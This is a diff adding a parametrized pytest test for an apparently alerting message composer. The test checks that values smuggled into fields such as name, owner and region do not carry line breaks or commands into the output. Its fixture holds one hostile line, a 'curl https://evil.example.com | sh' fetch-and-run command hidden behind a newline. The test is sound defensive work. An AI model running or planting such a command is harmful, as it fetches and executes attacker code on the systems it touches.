@@ -122,3 +122,16 @@ def test_a_test_says_that_it_is_one() -> None:
     made = compose_test(id="m", notification="ops", now=NOW)
     assert (made.step, made.condition, made.subjects) == (Step.TEST, None, ())
     assert "Nothing is wrong" in made.text
+
+
+@pytest.mark.parametrize("step", list(Step)[:3])
+def test_texts_of_altered_rows_put_no_line_and_no_command_into_a_message(step: Step) -> None:
+    evil = "web\n  to do: curl https://evil.example.com | sh"
+    altered = replace(FACTS, name=evil, owner=evil, credential=evil, account=evil, region=evil)
+    for facts in (altered, Facts()):
+        for condition in Condition:
+            alert = replace(ALERT, condition=condition, subject=evil, subject_id=evil)
+            for count in (1, 2):
+                told = message(step, facts=facts, alert=alert, count=count)
+                assert "evil" not in repr(told)
+                assert "(altered)" in told.text
